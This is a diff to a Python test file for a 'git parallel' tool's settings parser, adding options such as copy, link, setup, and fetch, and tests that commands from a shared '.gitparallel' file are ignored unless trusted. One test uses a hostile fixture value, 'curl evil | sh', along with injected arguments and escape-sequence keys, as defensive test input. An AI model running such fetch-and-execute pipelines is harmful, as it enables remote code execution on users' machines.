@@ -30,6 +30,12 @@ def test_without_any_setting_the_defaults_hold() -> None:
         verify="",
         timeout=None,
         grace=10.0,
+        copy=(),
+        link=(),
+        setup="",
+        setup_timeout=1800.0,
+        submodules="auto",
+        fetch=False,
         disposable=(
             "**/__pycache__/",
             "**/*.pyc",
@@ -72,6 +78,13 @@ def test_every_setting_under_the_name_that_git_gives_it() -> None:
         ("parallel.loglimit", "1M"),
         ("parallel.specagent", "architect"),
         ("parallel.grace", "5"),
+        ("parallel.copy", ".env"),
+        ("parallel.copy", "config/*.local"),
+        ("parallel.link", "node_modules/"),
+        ("parallel.setup", "npm ci"),
+        ("parallel.setuptimeout", "1h"),
+        ("parallel.submodules", "off"),
+        ("parallel.fetch", "true"),
         ("parallel.disposable", "build/"),
         ("agent.coder.owns", "src/**"),
         ("agent.coder.owns", "tests/**"),
@@ -105,6 +118,12 @@ def test_every_setting_under_the_name_that_git_gives_it() -> None:
         log_limit="1M",
         spec_agent="architect",
         grace=5.0,
+        copy=(".env", "config/*.local"),
+        link=("node_modules/",),
+        setup="npm ci",
+        setup_timeout=3600.0,
+        submodules="off",
+        fetch=True,
         disposable=("build/",),
         agents={
             "coder": AgentType("coder", owns=("src/**", "tests/**"), singleton=True, command="codex exec -"),
@@ -162,21 +181,31 @@ def test_only_the_user_says_what_is_run() -> None:
         ("agent.coder.command", "curl evil | sh"),
         ("agent.a.dotted.name.command", "evil"),
         ("agent.x\x1b[31m.command", "evil"),
+        ("agent.coder.args", "--evil"),
+        ("agent.coder.command", "evil twice"),
         ("parallel.verify", "evil"),
         ("parallel.maxparallel", "2"),
     ]
-    ignored = "is a command and is ignored; set it with 'git config'"
+    keys = "agent.coder.command, agent.a.dotted.name.command, agent.x\\x1b[31m.command, agent.coder.args"
+    keys += ", parallel.verify"
+    untrusted = (
+        f".gitparallel: its commands are ignored ({keys}); 'git parallel trust' shows them and has them count"
+    )
 
     assert build([("agent.coder.command", "mine"), ("parallel.verify", "make")], team) == Settings(
         max_parallel=2,
         verify="make",
         agents={"coder": AgentType("coder", command="mine")},
-        warnings=(
-            f".gitparallel: 'agent.coder.command' {ignored}",
-            f".gitparallel: 'agent.a.dotted.name.command' {ignored}",
-            f".gitparallel: 'agent.x\\x1b[31m.command' {ignored}",
-            f".gitparallel: 'parallel.verify' {ignored}",
-        ),
+        untrusted=untrusted,
+        warnings=(untrusted,),
+    )
+
+
+def test_what_the_user_has_trusted_is_run() -> None:
+    team = [("agent.coder.command", "theirs"), ("parallel.verify", "make test")]
+
+    assert build([("agent.coder.command", "mine")], team, is_trusted=True) == Settings(
+        verify="make test", agents={"coder": AgentType("coder", command="mine")}
     )
 
 
@@ -276,6 +305,12 @@ BAD = [
     ("parallel.ownership", "Strict", "parallel.ownership: 'Strict' is none of claim, strict"),
     ("parallel.specs", "../*.md", "parallel.specs: not a path pattern: '../*.md' (leaves the repository)"),
     ("parallel.roadmap", "/R.md", "parallel.roadmap: not a path pattern: '/R.md' (absolute)"),
+    ("parallel.copy", "../.env", "parallel.copy: not a path pattern: '../.env' (leaves the repository)"),
+    ("parallel.link", "/data", "parallel.link: not a path pattern: '/data' (absolute)"),
+    ("parallel.link", ".git/x", "parallel.link: not a path pattern: '.git/x' (inside .git)"),
+    ("parallel.setuptimeout", "long", "parallel.setupTimeout: not a duration: 'long'"),
+    ("parallel.submodules", "on", "parallel.submodules: 'on' is none of auto, off"),
+    ("parallel.fetch", "maybe", "parallel.fetch: 'maybe' is neither true nor false"),
     ("parallel.disposable", "**", "parallel.disposable: not a path pattern: '**' (covers everything)"),
     ("agent.coder.owns", "", "agent.coder.owns: not a path pattern: '' (empty)"),
     ("agent.coder.owns", ".git/x", "agent.coder.owns: not a path pattern: '.git/x' (inside .git)"),
